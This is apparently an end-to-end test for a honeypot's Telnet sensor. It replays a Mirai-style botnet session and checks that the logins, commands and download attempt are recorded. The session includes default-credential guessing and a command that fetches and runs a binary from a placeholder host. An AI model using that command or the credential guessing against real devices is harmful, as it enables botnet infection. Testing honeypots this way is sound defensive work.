"""``phantomnet up`` with the Telnet door: a Mirai-style session (login, probes, a download)
stored and read back through the API, with its recording on disk."""

from __future__ import annotations

import json
import time
import urllib.request
from pathlib import Path
from typing import Any

import pytest

from tests.e2e.harness import PhantomNet, free_port
from tests.integration.sensors.telnet.conftest import RawTelnet

pytestmark = pytest.mark.e2e


def get(pn: PhantomNet, path: str, token: str) -> Any:
    req = urllib.request.Request(pn.api + path, headers={"Authorization": f"Bearer {token}"})
    with urllib.request.urlopen(req, timeout=10) as resp:
        return json.loads(resp.read())


def wait_items(pn: PhantomNet, path: str, token: str, n: int = 1) -> list[dict[str, Any]]:
    deadline, items = time.monotonic() + 120, []
    while time.monotonic() < deadline:
        items = get(pn, path, token)["items"]
        if len(items) >= n:
            return items  # type: ignore[no-any-return]
        time.sleep(0.3)
    raise AssertionError(f"{path}: {len(items)} of {n} items; log:\n{pn.log()[-3000:]}")


def test_up_records_a_telnet_botnet_session(tmp_path: Path) -> None:
    port = free_port()
    sensors = {"telnet": {"host": "127.0.0.1", "port": port, "auth_fail_delay_s": 0.05}}
    with PhantomNet(tmp_path, {"api": {"port": free_port()}, "sensors": sensors}) as pn:
        pn.wait_http("/health")
        pn.wait_port(port)
        token = pn.cli("token", "create", "--role", "viewer").stdout.strip()
        client = RawTelnet(port, "mirai")
        try:
            client.until(b"login: ")
            client.line("admin")
            client.until(b"Password: ")
            client.line("wrong")
            client.until(b"Login incorrect")
            client.until(b"login: ")
            client.line("root")
            client.until(b"Password: ")
            client.line("123456")
            client.until(b"# ")
            client.line("/bin/busybox PHANTOM")
            client.until(b"PHANTOM: applet not found")
            client.until(b"# ")
            client.line("cd /tmp; wget http://203.0.113.5/x86 -O .x; chmod +x .x; ./.x")
            client.until(b"# ")
            client.line("exit")
            client.read(2.0)
        finally:
            client.close()
        logins = wait_items(pn, "/api/events?kind=auth.attempt&protocol=telnet", token, 2)
        assert sorted((e["payload"]["username"], e["payload"]["accepted"]) for e in logins) == [
            ("admin", False),
            ("root", True),
        ]
        commands = wait_items(pn, "/api/events?kind=command.input&protocol=telnet", token, 3)
        typed = {e["payload"]["command"] for e in commands}
        assert "/bin/busybox PHANTOM" in typed
        download = wait_items(pn, "/api/events?kind=file.download", token)[0]["payload"]
        assert download["url"] == "http://203.0.113.5/x86" and download["fetched"] is False
        closed = wait_items(pn, "/api/events?kind=connection.closed&protocol=telnet", token, 2)
        recordings = [
            e["payload"].get("recording") for e in closed if e["payload"].get("recording")
        ]
        assert len(recordings) == 1
        assert "Traceback" not in pn.log()
    cast = next(tmp_path.rglob(Path(recordings[0]).name))
    assert json.loads(cast.read_text().splitlines()[0])["version"] == 2
